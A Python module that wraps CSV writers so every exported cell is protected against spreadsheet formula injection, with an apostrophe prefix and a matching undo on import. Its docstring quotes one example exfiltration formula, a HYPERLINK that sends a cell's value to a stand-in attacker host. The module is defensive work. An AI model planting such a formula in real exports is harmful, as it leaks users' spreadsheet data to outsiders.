"""Every CSV the product writes goes through here, so no cell can become a live formula.

Spreadsheets (Excel, LibreOffice, Google Sheets) run a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula -- and a tab or carriage return first can hide such a start -- so a note text like
``=HYPERLINK("http://evil.example/?"&A1, "click")`` would come out live in a lead's export
(OWASP "CSV injection"). ``safe_cell`` puts an apostrophe in front of such a value: spreadsheets
show the text as typed, and the import strips that apostrophe again (``unneutralise``), so a file
the product wrote can be fixed and imported back unchanged.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import IO, Any, Protocol

__all__ = ["BOM", "FORMULA_STARTS", "DictWriter", "Writer", "safe_cell", "unneutralise"]

# Every CSV the product writes starts with it: without it, Excel reads UTF-8 as its Windows code
# page and accents break; the import reads a file with or without it.
BOM = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _SupportsWrite(Protocol):
    def write(self, value: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would run as a formula; then ``'`` + text.

    Numbers, booleans and None pass as they are (a negative number is data, not a formula)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def unneutralise(value: str) -> str:
    """Undo ``safe_cell`` on a value read back from a file the product wrote."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


class Writer:
    """``csv.writer`` whose every cell passes ``safe_cell``; ``writerow`` returns what the file's
    ``write`` returned (so a pass-through "file" can feed a streaming response)."""

    def __init__(self, out: _SupportsWrite, **fmtparams: Any) -> None:
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class DictWriter:
    """``csv.DictWriter`` whose every value passes ``safe_cell`` (the header is ours, so it is not)."""

    def __init__(self, out: IO[str] | _SupportsWrite, fieldnames: Sequence[str], **kwargs: Any) -> None:
        self._writer = csv.DictWriter(out, fieldnames=fieldnames, **kwargs)

    def writeheader(self) -> Any:
        return self._writer.writeheader()

    def writerow(self, row: dict[str, Any]) -> Any:
        return self._writer.writerow({key: safe_cell(value) for key, value in row.items()})
